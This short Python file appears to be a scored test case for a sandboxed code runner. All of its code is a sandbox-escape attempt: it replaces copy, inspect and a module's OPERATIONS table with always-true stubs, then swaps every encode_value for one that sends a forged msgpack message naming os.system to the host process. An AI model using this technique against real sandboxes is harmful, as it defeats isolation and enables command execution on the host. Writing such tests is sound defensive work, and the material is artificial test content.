# What the process behind the wall works with is patched: its operations, its encoder, its library.
# ---
# points = 0
# reasons = {mean_of = "wrote into the channel"}
# flags = ["protocol"]

# %%
import copy
import inspect
import sys
import types


def everything(*_args, **_kwargs):
    return True


copy.copy = copy.deepcopy = everything
inspect.signature = inspect.getsource = everything
for module in list(sys.modules.values()):
    table = getattr(module, "OPERATIONS", None)
    if type(table) is dict and "getattr" in table:
        for name in list(table):
            table[name] = everything

# %% mean_of
import msgpack

# What `encode` gives: a function to be imported, `os.system`.
forged = msgpack.packb([17, "os", "system"])


def mean_of(values):
    for module in list(sys.modules.values()):
        if isinstance(module, types.ModuleType) and "encode_value" in vars(module):
            module.encode_value = lambda *_: forged
    return 0.0
